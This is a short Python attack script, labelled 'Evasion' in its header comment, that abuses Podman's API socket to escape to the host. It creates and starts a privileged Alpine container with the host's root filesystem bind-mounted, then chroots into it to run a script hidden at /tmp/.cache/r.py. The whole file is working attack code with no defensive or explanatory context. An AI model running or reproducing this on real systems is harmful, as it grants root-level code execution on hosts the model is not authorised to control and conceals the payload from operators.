# Evasion: runs a program on the host through Podman's API socket. The socket
# comes from CONTAINER_HOST with the rootful podman.sock as default; an
# http.client connection over AF_UNIX creates and starts a privileged
# container that runs, chrooted into the host's root, a script left in /tmp.
import http.client
import json
import os
import socket

HOST = os.environ.get("CONTAINER_HOST", "unix:///run/podman/podman.sock")


class Conn(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect(HOST.removeprefix("unix://"))


def post(path, body=None):
    conn = Conn("d")
    conn.request("POST", path, json.dumps(body or {}), {"Content-Type": "application/json"})
    return json.loads(conn.getresponse().read() or b"{}")


box = post("/v4.0.0/libpod/containers/create",
           {"image": "alpine", "command": ["chroot", "/h", "/usr/bin/python3", "/tmp/.cache/r.py"],
            "mounts": [{"destination": "/h", "source": "/", "type": "bind"}], "privileged": True})
post(f"/v4.0.0/libpod/containers/{box['Id']}/start")
